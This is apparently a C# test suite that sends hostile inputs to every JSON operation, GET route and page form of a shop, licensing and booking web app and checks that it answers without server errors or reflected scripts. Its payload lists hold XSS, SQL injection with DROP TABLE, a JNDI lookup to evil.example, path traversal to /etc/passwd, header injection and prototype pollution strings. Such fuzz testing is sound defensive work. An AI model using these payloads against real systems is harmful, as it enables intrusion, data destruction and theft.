using System.Text.Json.Nodes;

namespace PrimeTech.HostileClientTests;

/// <summary>
/// Every JSON operation in the app's OpenAPI document gets bodies a hostile client sends: broken
/// JSON, the wrong root, every field in turn of the wrong type, oversized, full of markup, SQL and
/// Unicode edge cases, and nested past any sane depth. Each answer is a success or the error
/// contract (problem+json with a <c>code</c>), never a 5xx.
/// </summary>
[Collection(HostileCollection.Name)]
public sealed class HostileInputTests(HostileFixture app)
{
    private const string UnknownOrder = "ORD-20200101-ZZZZ";
    private const string UnknownLicence = "LIC-ZZZZ-ZZZZ-ZZZZ";
    private const string UnknownBooking = "BKG-20200101-ZZZZ";
    private static readonly string UnknownId = Guid.NewGuid().ToString();

    /// <summary>A valid body for every JSON operation ("METHOD path" as in the OpenAPI document); the sweep spoils one part at a time.</summary>
    private static readonly Dictionary<string, object> ValidBodies = new()
    {
        ["POST /api/auth/register"] = new { email = "fuzz@example.test", name = "Fuzz Tester", password = Accounts.DefaultPassword },
        ["POST /api/auth/login"] = new { email = "fuzz@example.test", password = "Not-the-password-1", rememberMe = false },
        ["PATCH /api/auth/me"] = new { name = "Fuzz Tester" },
        ["POST /api/auth/verify-email"] = new { token = "not-a-real-token" },
        ["POST /api/auth/resend-verification"] = new { email = "fuzz@example.test" },
        ["POST /api/auth/forgot-password"] = new { email = "fuzz@example.test" },
        ["POST /api/auth/reset-password"] = new { token = "not-a-real-token", newPassword = Accounts.DefaultPassword + "!" },
        ["POST /api/auth/change-password"] = new { currentPassword = "Not-the-password-1", newPassword = Accounts.DefaultPassword + "!" },
        ["POST /api/auth/login/two-factor"] = new { code = "123456" },
        ["POST /api/auth/two-factor/confirm"] = new { code = "123456" },
        ["POST /api/auth/two-factor/disable"] = new { code = "123456" },
        ["PUT /api/admin/users/{id}/roles"] = new { roles = new[] { "Customer" } },
        ["POST /api/admin/users/{id}/lock"] = new { reason = "Fuzzing." },
        ["POST /api/cart/items"] = new { sku = "NO-SUCH-SKU", quantity = 1 },
        ["PUT /api/cart/items/{sku}"] = new { quantity = 2 },
        ["POST /api/orders/checkout"] = new { cartRevision = 1 },
        ["PUT /api/account/billing-details"] = new
        {
            name = "Fuzz Tester", companyName = "Fuzz Ltd", addressLine1 = "1 Fuzz Street", addressLine2 = "Fuzz Quarter", city = "London",
            postcode = "SW1A 1AA", country = "GB", vatNumber = "GB987654321",
        },
        ["POST /api/admin/products"] = new
        {
            sku = "FZ-1", slug = "fz-1", name = "Fuzzed", summary = "Fuzzed.", descriptionMarkdown = "", unitPriceNetPence = 100,
            vatRatePercent = 20, isLicensed = false, isActive = false,
        },
        ["PUT /api/admin/products/{id}"] = new
        {
            id = UnknownId, slug = "fz-2", name = "Fuzzed", summary = "Fuzzed.", descriptionMarkdown = "", unitPriceNetPence = 100,
            vatRatePercent = 20, isLicensed = false, isActive = false,
        },
        ["POST /api/admin/orders/{number}/refund"] = new { reason = "Fuzzing." },
        ["POST /api/licences/activate"] = new { licenceKey = UnknownLicence, fingerprint = "fuzzing-machine-000001", machineName = "Fuzz" },
        ["POST /api/licences/validate"] = new { licenceKey = UnknownLicence, fingerprint = "fuzzing-machine-000001" },
        ["POST /api/licences/heartbeat"] = new { licenceKey = UnknownLicence, fingerprint = "fuzzing-machine-000001" },
        ["POST /api/licences/deactivate"] = new { licenceKey = UnknownLicence, fingerprint = "fuzzing-machine-000001" },
        ["POST /api/licences/{licenceKey}/offline-file"] = new { fingerprint = "fuzzing-machine-000001", machineName = "Fuzz" },
        ["POST /api/admin/licences/{licenceKey}/offline-file"] = new { fingerprint = "fuzzing-machine-000001", machineName = "Fuzz" },
        ["POST /api/admin/licences/{licenceKey}/revoke"] = new { reason = "Fuzzing." },
        ["POST /api/admin/licences/{licenceKey}/reinstate"] = new { reason = "Fuzzing." },
        ["POST /api/admin/licences/{licenceKey}/reset"] = new { reason = "Fuzzing." },
        ["POST /api/admin/releases/{releaseId}/yank"] = new { reason = "Fuzzing." },
        ["POST /api/bookings"] = new
        {
            serviceSlug = "remote-support", start = "2020-01-06T09:00:00Z", name = "Fuzz Tester", email = "fuzz@example.test",
            phone = "01632 960 001", notes = "Fuzzing.",
        },
        ["POST /api/bookings/track"] = new { reference = UnknownBooking, email = "fuzz@example.test" },
        ["POST /api/bookings/{reference}/cancel"] = new { email = "fuzz@example.test", reason = "Fuzzing." },
        ["POST /api/bookings/track/{token}/cancel"] = new { reason = "Fuzzing." },
        ["POST /api/admin/bookings/decline"] = new { references = new[] { UnknownBooking }, reason = "Fuzzing." },
        ["POST /api/admin/services"] = new { slug = "fuzz-service", name = "Fuzz", description = "Fuzzing.", durationMinutes = 60, isActive = false },
        ["PUT /api/admin/services/{id}"] = new { slug = "fuzz-service-2", name = "Fuzz", description = "Fuzzing.", durationMinutes = 60, isActive = false },
        ["PATCH /api/admin/bookings/{reference}/status"] = new { status = "Confirmed", customerNote = "Fuzzing.", internalNote = "Fuzzing." },
    };

    /// <summary>Values a hostile client puts where a field's value belongs: wrong types, extremes, markup, SQL, Unicode edge cases.</summary>
    private static readonly string[] HostileValues =
    [
        "123", "-1", "0.5", "1e309", "9223372036854775808", "true", "[]", "{}", "[1,2,3]", "{\"$ne\":null}", "null",
        Json("<script>alert('xss')</script>"), Json("' OR '1'='1' --"), Json("\"; DROP TABLE mt_doc_user; --"),
        Json("\r\nBcc: victim@example.test\r\n"), Json("\u0000"), Json("\u202Egnp.exe"), Json("e\u0301\u0301\u0301"), Json("😀👩‍👩‍👧‍👦"),
        "\"\\ud800\"", Json("${jndi:ldap://evil.example/a}"), Json("{{7*7}}"), Json("../../../etc/passwd"), Json("   "), Json(""),
        Json(new string('A', 100_000)), Json(string.Concat(Enumerable.Repeat("😀", 20_000))),
    ];

    [Fact]
    public async Task Every_json_operation_answers_hostile_bodies_with_success_or_the_error_contract()
    {
        var operations = await JsonOperationsAsync();
        var missing = operations.Where(o => !ValidBodies.ContainsKey(o)).ToList();
        Assert.True(missing.Count == 0, "No valid body for: " + string.Join(", ", missing));

        var fuzzer = await app.CreateCustomerAsync(name: "Fuzz Tester");
        var failures = new List<string>();
        var sent = 0;
        foreach (var operation in operations)
        {
            var method = operation[..operation.IndexOf(' ')];
            var path = operation[(operation.IndexOf(' ') + 1)..];
            var user = path.StartsWith("/api/admin/", StringComparison.Ordinal) ? app.World.Admin : fuzzer;
            var url = Fill(path);
            foreach (var body in HostileBodies(ValidBodies[operation]))
            {
                sent++;
                var (status, text) = await HostileClient.SendAsync(app, user, method, url, new StringContent(body, Encoding.UTF8, "application/json"));
                if (status >= 500 || status >= 400 && HostileClient.ProblemCode(text) is null)
                    failures.Add($"{operation} with {Shorten(body)}: {status} {Shorten(text)}");
            }
        }
        Assert.True(sent > 2000, $"Only {sent} hostile bodies were sent.");
        Assert.True(failures.Count == 0, $"{failures.Count} of {sent} answers broke the contract:\n" + string.Join("\n", failures.Take(40)));
        await app.World.AssertVictimUntouchedAsync(app);
    }

    /// <summary>Text a hostile client puts in paths, query strings and form fields.</summary>
    private static readonly string[] HostileText =
    [
        "\0", "<script>alert('xss')</script>", "' OR '1'='1' --", "\"; DROP TABLE mt_doc_user; --", "\r\nSet-Cookie: pts=stolen",
        "\u202Egnp.exe", "e\u0301\u0301", "😀👩‍👩‍👧‍👦", "../../../etc/passwd", "%252e%252e%252f", "-1", "99999999999999999999", "1e309",
        "2026-02-30", "   ", new string('A', 300),
    ];

    private static readonly string[] QueryParameters =
        ["q", "page", "pageSize", "status", "from", "to", "date", "service", "role", "locked", "active", "type", "outcome", "returnUrl", "token", "order", "reference", "slot", "tab"];

    [Fact]
    public async Task Every_get_route_answers_hostile_paths_and_queries_without_a_server_error()
    {
        var customer = await app.CreateCustomerAsync(name: "Query Fuzzer");
        var routes = AppRoutes.All(app).Where(r => r.Method == "GET" && r.Route is not "{**path:file}" && !r.Route.StartsWith("api/docs", StringComparison.Ordinal))
            .Select(r => r.Route).Distinct().ToList();
        var failures = new List<string>();
        foreach (var route in routes)
        foreach (var text in HostileText)
        {
            // Kestrel itself refuses a NUL in the path (400, before the app): it is tried in the query only.
            var value = Uri.EscapeDataString(text);
            var url = "/" + AppRoutes.Fill(route, _ => text == "\0" ? "x" : value) + "?" + string.Join("&", QueryParameters.Select(p => $"{p}={value}"));
            var user = route.StartsWith("api/admin", StringComparison.Ordinal) || route.StartsWith("admin", StringComparison.Ordinal) ? app.World.Admin : customer;
            var (status, body) = await HostileClient.SendAsync(app, user, "GET", url, null);
            if (status >= 500 || route.StartsWith("api/", StringComparison.Ordinal) && status >= 400 && HostileClient.ProblemCode(body) is null)
                failures.Add($"GET {Shorten(url)}: {status} {Shorten(body)}");
            if (body.Contains("<script>alert('xss')</script>", StringComparison.Ordinal))
                failures.Add($"GET {Shorten(url)} reflected the script unencoded");
        }
        Assert.True(failures.Count == 0, $"{failures.Count} answers broke the contract:\n" + string.Join("\n", failures.Take(40)));
    }

    [Fact]
    public async Task Every_page_form_answers_hostile_fields_without_a_server_error()
    {
        var customer = PageVisitor.For(app, await app.CreateCustomerAsync(name: "Form Fuzzer"));
        var admin = PageVisitor.For(app, app.World.Admin);
        // A form without fields (sign out, revoke other sessions, publish) has no input to spoil.
        var forms = AppRoutes.PageForms().Where(f => f.Fields.Count > 0).ToList();
        var failures = new List<string>();
        foreach (var (route, handler, fields) in forms)
        foreach (var text in HostileText)
        {
            var url = "/" + AppRoutes.Fill(route, parameter => parameter switch
            {
                "number" => UnknownOrder, "licenceKey" => UnknownLicence, "reference" => UnknownBooking, "eventId" => "evt_unknown", _ => UnknownId,
            }) + (handler.Length == 0 ? "" : $"?handler={handler}");
            var visitor = route.StartsWith("admin", StringComparison.Ordinal) ? admin : customer;
            PageResponse page;
            try
            {
                page = await visitor.PostFormAsync(url, fields.ToDictionary(f => f, _ => text), expectedStatus: null,
                    formPage: visitor == admin ? "/admin" : "/account/profile");
            }
            catch (Exception e)
            {
                throw new InvalidOperationException($"Before POST {url} with {Shorten(text)}", e);
            }
            if (page.Status >= 500) failures.Add($"POST {url} with {Shorten(text)}: {page.Status}");
            if (page.Html.Contains("<script>alert('xss')</script>", StringComparison.Ordinal))
                failures.Add($"POST {url} reflected the script unencoded");
        }
        Assert.True(forms.Count > 20, $"Only {forms.Count} page forms were found.");
        Assert.True(failures.Count == 0, $"{failures.Count} answers broke the contract:\n" + string.Join("\n", failures.Take(40)));
        await app.World.AssertVictimUntouchedAsync(app);
    }

    /// <summary>The broken documents, then each field of the valid body replaced by each hostile value, and dropped.</summary>
    private static IEnumerable<string> HostileBodies(object valid)
    {
        var body = JsonSerializer.SerializeToNode(valid, JsonSerializerOptions.Web)!.AsObject();
        yield return "{";
        yield return "{\"a\":1,}";
        yield return "[]";
        yield return "\"text\"";
        yield return "42";
        yield return string.Concat(Enumerable.Repeat("[", 5_000)) + string.Concat(Enumerable.Repeat("]", 5_000));
        yield return body.ToJsonString().Replace("{", "{\"__proto__\":{\"isAdmin\":true},", StringComparison.Ordinal);
        foreach (var field in body.Select(p => p.Key).ToList())
        {
            foreach (var value in HostileValues)
            {
                var spoiled = body.DeepClone().AsObject();
                spoiled.Remove(field);
                var text = spoiled.ToJsonString();
                yield return text.Length == 2 ? $"{{\"{field}\":{value}}}" : $"{{\"{field}\":{value},{text[1..]}";
            }
            var without = body.DeepClone().AsObject();
            without.Remove(field);
            yield return without.ToJsonString();
            yield return body.ToJsonString()[..^1] + $",\"{field}\":{Json(new string('B', 300))}}}";
        }
    }

    private async Task<List<string>> JsonOperationsAsync()
    {
        var (_, text) = await HostileClient.SendAsync(app, null, "GET", "/api/openapi.json", null);
        var document = JsonNode.Parse(text)!;
        return document["paths"]!.AsObject()
            .SelectMany(path => path.Value!.AsObject()
                .Where(op => op.Value!["requestBody"]?["content"]?["application/json"] is not null)
                .Select(op => $"{op.Key.ToUpperInvariant()} {path.Key}"))
            .ToList();
    }

    private static string Fill(string path) => path
        .Replace("{number}", UnknownOrder).Replace("{licenceKey}", UnknownLicence).Replace("{reference}", UnknownBooking)
        .Replace("{sku}", "NO-SUCH-SKU").Replace("{token}", "not-a-real-token").Replace("{id}", UnknownId).Replace("{releaseId}", UnknownId).Replace("{productId}", UnknownId);

    private static string Json(string value) => JsonSerializer.Serialize(value);

    private static string Shorten(string text) => text.Length <= 160 ? text : text[..160] + $"… ({text.Length} chars)";
}
